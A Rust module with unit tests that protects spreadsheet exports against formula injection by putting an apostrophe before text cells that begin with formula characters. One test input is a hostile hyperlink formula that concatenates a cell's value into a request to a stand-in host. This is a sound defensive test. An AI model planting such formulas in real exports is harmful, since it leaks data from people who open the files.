//! The formula guard: text that a spreadsheet would run is exported as text.
//!
//! A text cell that begins with `=`, `+`, `-`, `@`, tab or carriage return is taken for a formula by
//! spreadsheets when they open a CSV file. The guard puts one `'` before it and counts, so that the export
//! report can say how many cells differ from the source. Numbers are never touched: the caller guards text
//! cells only, and only for formats that spreadsheets open (CSV, TSV, XLSX).

use std::borrow::Cow;

/// Characters that make a spreadsheet read a text cell as a formula.
const STARTS_A_FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet may run this text instead of showing it.
pub fn starts_a_formula(text: &str) -> bool {
    text.starts_with(STARTS_A_FORMULA)
}

/// Guards the text cells of one export and counts those it changed.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct FormulaGuard {
    guarded_cells: u64,
}

impl FormulaGuard {
    /// The text to write: unchanged, or with `'` before it.
    pub fn guard<'a>(&mut self, text: &'a str) -> Cow<'a, str> {
        if !starts_a_formula(text) {
            return Cow::Borrowed(text);
        }
        self.guarded_cells = self.guarded_cells.saturating_add(1);
        Cow::Owned(format!("'{text}"))
    }

    /// Cells changed so far.
    pub fn guarded_cells(&self) -> u64 {
        self.guarded_cells
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_a_spreadsheet_would_run_gets_an_apostrophe() {
        let rows = [
            ("=1+1", "'=1+1"),
            ("+49 30 1234", "'+49 30 1234"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("=", "'="),
            ("=HYPERLINK(\"http://x/?\"&A1)", "'=HYPERLINK(\"http://x/?\"&A1)"),
            ("", ""),
            ("a=b", "a=b"),
            (" =1+1", " =1+1"),
            ("'=1+1", "'=1+1"),
            ("\n=1", "\n=1"),
            ("ä", "ä"),
            ("12", "12"),
        ];
        for (input, expected) in rows {
            let mut guard = FormulaGuard::default();
            assert_eq!(guard.guard(input), expected, "{input:?}");
            assert_eq!(guard.guarded_cells(), u64::from(input != expected), "{input:?}");
        }
    }

    #[test]
    fn guarding_twice_changes_nothing_more() {
        let mut guard = FormulaGuard::default();
        let once = guard.guard("=1").into_owned();
        assert_eq!(guard.guard(&once), once);
        assert_eq!(guard.guarded_cells(), 1);
    }
}
